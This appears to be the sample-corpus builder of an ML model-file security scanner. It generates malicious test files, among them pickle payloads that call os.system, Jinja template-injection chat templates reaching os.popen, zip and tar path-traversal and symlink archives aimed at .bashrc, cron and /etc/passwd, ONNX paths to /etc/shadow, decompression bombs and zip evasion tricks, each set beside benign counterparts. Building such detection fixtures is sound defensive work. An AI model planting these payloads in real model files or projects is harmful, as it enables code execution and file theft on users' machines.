"""A sample corpus built with the standard library: ``donjon samples DIR``.

Malicious files cover each bypass class the scanner answers (pickle gadgets,
container tricks, Keras, TensorFlow, ONNX, GGUF, safetensors, archives);
benign files are plain data in the same formats. Nothing here imports an ML
framework; the test suite adds benign files made with the real libraries.
"""

from __future__ import annotations

import io
import json
import struct
import tarfile
import warnings
import zipfile
import zlib
from pathlib import Path

from donjon.scan.samples_pickle import (
    CANARY,
    benign_pickles,
    call,
    glob0,
    malicious_pickles,
    p2,
    shell,
)

_TORCH_MAGIC = 0x1950A86A20F9469CFC6C


# -- tiny protobuf writer ---------------------------------------------------------


def _varint(n: int) -> bytes:
    out = bytearray()
    while True:
        byte, n = n & 0x7F, n >> 7
        out.append(byte | (0x80 if n else 0))
        if not n:
            return bytes(out)


def pb(number: int, value: int | str | bytes) -> bytes:
    if isinstance(value, int):
        return _varint(number << 3) + _varint(value)
    raw = value.encode() if isinstance(value, str) else value
    return _varint(number << 3 | 2) + _varint(len(raw)) + raw


def saved_model(ops: list[str]) -> bytes:
    """A SavedModel graph; checkpoint ops sit in the saver's name scope, as TensorFlow puts them."""
    saver = ("SaveV2", "RestoreV2", "MergeV2Checkpoints")
    nodes = b"".join(
        pb(1, pb(1, f"save/{op}" if op in saver else f"n{i}") + pb(2, op))
        for i, op in enumerate(ops)
    )
    return pb(1, 1) + pb(2, pb(2, nodes))


def onnx_model(locations: list[str], domains: list[str]) -> bytes:
    tensors = b"".join(
        pb(5, pb(8, f"w{i}") + pb(2, 1) + pb(13, pb(1, "location") + pb(2, loc)) + pb(14, 1))
        for i, loc in enumerate(locations)
    )
    nodes = b"".join(pb(1, pb(4, "Relu") + pb(7, d)) for d in ["", *domains])
    opsets = pb(8, pb(1, "") + pb(2, 17)) + b"".join(pb(8, pb(1, d) + pb(2, 1)) for d in domains)
    return pb(1, 8) + opsets + pb(7, nodes + tensors + pb(2, "g"))


# -- other formats -----------------------------------------------------------------


def gguf(template: str) -> bytes:
    def s(text: str) -> bytes:
        raw = text.encode()
        return struct.pack("<Q", len(raw)) + raw

    kv = [("general.architecture", "llama"), ("tokenizer.chat_template", template)]
    body = b"".join(s(k) + struct.pack("<I", 8) + s(v) for k, v in kv)
    return b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv)) + body


def safetensors(header: dict[str, object], data: bytes) -> bytes:
    raw = json.dumps(header).encode()
    return struct.pack("<Q", len(raw)) + raw + data


def keras_zip(config: dict[str, object]) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", b"\x89HDF\r\n\x1a\n" + bytes(64))
    return buf.getvalue()


def keras_config(layers: list[dict[str, object]]) -> dict[str, object]:
    return {
        "module": "keras",
        "class_name": "Sequential",
        "config": {"name": "seq", "layers": layers},
    }


def dense() -> dict[str, object]:
    return {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}}


def torch_zip(pickle_bytes: bytes, prefix: str = "archive") -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr(f"{prefix}/data.pkl", pickle_bytes)
        z.writestr(f"{prefix}/byteorder", "little")
        z.writestr(f"{prefix}/data/0", bytes(64))
        z.writestr(f"{prefix}/version", "3\n")
        z.writestr(f"{prefix}/.data/serialization_id", "0")
    return buf.getvalue()


def state_dict_pickle() -> bytes:
    """What torch.save writes for {'w': tensor}: allow-listed rebuild calls only."""
    storage = (
        b"("
        + b"".join(
            [
                b"\x8c\x07storage",
                glob0("torch", "FloatStorage"),
                b"\x8c\x010\x8c\x03cpu",
                b"K\x10",
            ]
        )
        + b"tQ"
    )
    tensor = (
        glob0("torch._utils", "_rebuild_tensor_v2")
        + b"("
        + storage
        + b"K\x00K\x04\x85K\x01\x85\x89"
        + glob0("collections", "OrderedDict")
        + b")RtR"
    )
    return p2(glob0("collections", "OrderedDict") + b")R\x8c\x01w" + tensor + b"s")


def _patch(data: bytes, old: bytes, new: bytes, count: int = 1) -> bytes:
    return data.replace(old, new, count)


def container_samples() -> dict[str, tuple[str, bytes]]:
    evil = p2(call(glob0("os", "system"), shell()))
    tz = torch_zip(evil)
    crc = zipfile.ZipFile(io.BytesIO(tz)).getinfo("archive/data.pkl").CRC.to_bytes(4, "little")
    bad_crc = tz.replace(crc, b"\x00\x00\x00\x00")
    # Set bit 0 (encrypted) in every header: Python's zipfile refuses, PyTorch reads on.
    encrypted = tz.replace(b"PK\x03\x04\x14\x00\x00\x00", b"PK\x03\x04\x14\x00\x01\x00").replace(
        b"PK\x01\x02\x14\x03\x14\x00\x00\x00", b"PK\x01\x02\x14\x03\x14\x00\x01\x00"
    )
    mismatched = tz.replace(b"archive/data.pkl", b"archive/data.pkX", 1)
    dup = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(dup, "w") as z:
        warnings.simplefilter("ignore", UserWarning)  # the duplicate name is the point
        z.writestr("archive/data.pkl", p2(b"}"))
        z.writestr("archive/data.pkl", evil)
        z.writestr("archive/version", "3\n")
    legacy = (
        b"".join(
            p2(value)
            for value in (
                b"\x8a\x0a" + _TORCH_MAGIC.to_bytes(10, "little"),
                b"M\xe9\x03",
                b"}",
            )
        )
        + evil
        + p2(b"]")
        + struct.pack("<Q", 0x80)
    )
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tar:
        for name, payload in (("sys_info", p2(b"}")), ("pickle", evil)):
            info = tarfile.TarInfo(name)
            info.size = len(payload)
            tar.addfile(info, io.BytesIO(payload))
    npy_header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    npy_header += " " * (63 - len(npy_header)) + "\n"
    npy = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(npy_header)) + npy_header.encode() + evil
    npz = io.BytesIO()
    with zipfile.ZipFile(npz, "w") as z:
        z.writestr("arr_0.npy", npy)
    return {
        "torch_zip_evil.pt": ("pytorch zip", tz),
        "torch_zip_odd_prefix.bin": ("pytorch zip", torch_zip(evil, "weird/nested/name")),
        "torch_zip_bad_crc.pt": ("zip tricks", bad_crc),
        "torch_zip_encrypted_flag.pt": ("zip tricks", encrypted),
        "torch_zip_local_mismatch.pt": ("zip tricks", mismatched),
        "torch_zip_duplicate_names.pt": ("zip tricks", dup.getvalue()),
        "torch_zip_prepended.pt": ("zip tricks", b"MZ" + bytes(510) + tz),
        "torch_zip_truncated_pickle.pt": ("malformed", torch_zip(evil[:-4])),
        "pickle_as_png.png": ("odd extension", evil),
        "pickle_as_safetensors.safetensors": ("odd extension", evil),
        "legacy_torch_sequential.pt": ("legacy torch", legacy),
        "legacy_torch_tar.tar": ("legacy torch", tar_buf.getvalue()),
        "joblib_zlib.joblib": ("compressed joblib", zlib.compress(evil)),
        "joblib_gzip.joblib": ("compressed joblib", _gzip(evil)),
        "joblib_bz2.joblib": ("compressed joblib", _bz2(evil)),
        "joblib_xz.joblib": ("compressed joblib", _xz(evil)),
        "object_array.npy": ("numpy object array", npy),
        "object_array.npz": ("numpy object array", npz.getvalue()),
    }


def _gzip(data: bytes) -> bytes:
    import gzip

    return gzip.compress(data)


def _bz2(data: bytes) -> bytes:
    import bz2

    return bz2.compress(data)


def _xz(data: bytes) -> bytes:
    import lzma

    return lzma.compress(data)


_SSTI = (
    "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__"
    "['os'].popen('" + shell() + "').read() }}"
)
_CHATML = (
    "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\\n' + "
    "message['content'] + '<|im_end|>' + '\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)


def format_samples() -> dict[str, tuple[str, bytes]]:
    code: dict[str, object] = {"class_name": "__lambda__", "config": {"code": "YQ=="}}
    lam: dict[str, object] = {
        "module": "keras.layers",
        "class_name": "Lambda",
        "config": {"function": code},
    }
    exec_fn: dict[str, object] = {
        "module": "builtins",
        "class_name": "function",
        "config": "exec",
        "registered_name": "function",
    }
    zip_slip = io.BytesIO()
    with zipfile.ZipFile(zip_slip, "w") as z:
        z.writestr("../../.bashrc", "echo owned\n")
        z.writestr("/etc/cron.d/x", "* * * * * root true\n")
    link_zip = io.BytesIO()
    with zipfile.ZipFile(link_zip, "w") as z:
        link_info = zipfile.ZipInfo("link")
        link_info.external_attr = (0o120777 << 16) | 0
        z.writestr(link_info, "/etc/passwd")
    bomb = io.BytesIO()
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("zeros.bin", bytes(8 << 20))
    tar_slip = io.BytesIO()
    with tarfile.open(fileobj=tar_slip, mode="w") as tar:
        slip = tarfile.TarInfo("../evil.sh")
        slip.size = 4
        tar.addfile(slip, io.BytesIO(b"true"))
        link = tarfile.TarInfo("passwd")
        link.type = tarfile.SYMTYPE
        link.linkname = "/etc/passwd"
        tar.addfile(link)
    nested: bytes = p2(call(glob0("os", "system"), shell()))
    for level in range(12):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w") as z:
            z.writestr(f"level{level}.zip" if level else "model.pkl", nested)
        nested = buf.getvalue()
    return {
        "keras_lambda.keras": ("keras", keras_zip(keras_config([dense(), lam]))),
        "keras_exec_function.keras": ("keras", keras_zip(keras_config([dense(), exec_fn]))),
        "tf_readfile/saved_model.pb": ("tensorflow", saved_model(["Const", "ReadFile"])),
        "tf_pyfunc/saved_model.pb": ("tensorflow", saved_model(["Placeholder", "PyFunc"])),
        "tf_writefile/saved_model.pb": ("tensorflow", saved_model(["WriteFile", "MatchingFiles"])),
        "onnx_traversal.onnx": ("onnx", onnx_model(["../../../etc/passwd"], [])),
        "onnx_absolute.onnx": ("onnx", onnx_model(["/etc/shadow"], [])),
        "onnx_custom_domain.onnx": ("onnx", onnx_model([], ["evil.custom.ops"])),
        "gguf_ssti.gguf": ("gguf", gguf(_SSTI)),
        "tokenizer_ssti/tokenizer_config.json": (
            "gguf",
            json.dumps({"chat_template": _SSTI}).encode(),
        ),
        "safetensors_header_bomb.safetensors": (
            "safetensors",
            struct.pack("<Q", 1 << 40) + b'{"a":1}',
        ),
        "safetensors_overlap.safetensors": (
            "safetensors",
            safetensors(
                {
                    "a": {"dtype": "F32", "shape": [2], "data_offsets": [0, 8]},
                    "b": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]},
                },
                bytes(12),
            ),
        ),
        "zip_slip.zip": ("archive", zip_slip.getvalue()),
        "zip_symlink.zip": ("archive", link_zip.getvalue()),
        "zip_bomb.zip": ("archive", bomb.getvalue()),
        "tar_slip.tar": ("archive", tar_slip.getvalue()),
        "zip_nested_deep.zip": ("archive", nested),
    }


def benign_samples() -> dict[str, bytes]:
    out = dict(benign_pickles())
    good_st = safetensors(
        {
            "__metadata__": {"format": "pt"},
            "w": {"dtype": "F32", "shape": [2, 2], "data_offsets": [0, 16]},
            "b": {"dtype": "F32", "shape": [2], "data_offsets": [16, 24]},
        },
        bytes(24),
    )
    out.update(
        {
            "state_dict.pt": torch_zip(state_dict_pickle()),
            "weights.safetensors": good_st,
            "chat.gguf": gguf(_CHATML),
            "tokenizer/tokenizer_config.json": json.dumps({"chat_template": _CHATML}).encode(),
            "dense.keras": keras_zip(keras_config([dense()])),
            "tf_ok/saved_model.pb": saved_model(["Placeholder", "MatMul", "SaveV2", "RestoreV2"]),
            "model.onnx": onnx_model(["model.onnx.data"], []),
            "config.json": json.dumps({"hidden_size": 8}).encode(),
            "README.md": b"# A benign model\n",
        }
    )
    return out


def write_samples(folder: Path) -> dict[str, list[Path]]:
    """Write the corpus under ``folder/benign`` and ``folder/malicious``."""
    written: dict[str, list[Path]] = {"benign": [], "malicious": []}
    malicious = {name: data for name, (_, data) in malicious_pickles().items()}
    malicious.update({name: data for name, (_, data) in container_samples().items()})
    malicious.update({name: data for name, (_, data) in format_samples().items()})
    for kind, files in (("benign", benign_samples()), ("malicious", malicious)):
        for name, data in files.items():
            path = folder / kind / name
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_bytes(data)
            written[kind].append(path)
    return written


def families() -> dict[str, str]:
    """Sample name -> technique family, for every malicious sample."""
    out = {name: fam for name, (fam, _) in malicious_pickles().items()}
    out.update({name: fam for name, (fam, _) in container_samples().items()})
    out.update({name: fam for name, (fam, _) in format_samples().items()})
    return out


__all__ = ["CANARY", "benign_samples", "families", "write_samples"]
